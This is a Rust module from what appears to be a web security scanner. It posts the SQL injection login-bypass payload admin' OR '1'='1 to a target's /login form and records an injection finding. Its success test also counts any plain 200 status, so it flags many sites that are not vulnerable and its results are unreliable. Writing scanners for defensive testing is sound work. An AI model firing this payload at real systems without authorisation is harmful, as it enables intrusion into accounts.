//! Injection probe
//!
//! Posts a classic SQL injection payload to the login form. Either a
//! "Welcome" in the response body or a plain 200 status counts as a
//! match; the two conditions are ORed.

use crate::http::HttpClient;
use crate::models::Finding;
use reqwest::StatusCode;
use tracing::debug;

const LABEL: &str = "A03:2021 - Injection";

const PAYLOAD: &str = "username=admin' OR '1'='1&password=password";
const SUCCESS_MARKER: &str = "Welcome";

/// POSTs the payload to `<target>/login` as a form submission
pub async fn check(client: &HttpClient, target: &str) -> Option<Finding> {
    let url = format!("{target}/login");

    match client.post_form(&url, PAYLOAD).await {
        Ok(response) => {
            let status = response.status();
            // Body read failure degrades to an empty body
            let body = response.text().await.unwrap_or_default();
            if body.contains(SUCCESS_MARKER) || status == StatusCode::OK {
                Some(Finding::new(LABEL))
            } else {
                debug!("Injection probe: {status} on {url}, no marker in body");
                None
            }
        }
        Err(e) => {
            debug!("Injection probe failed for {url}: {e}");
            None
        }
    }
}
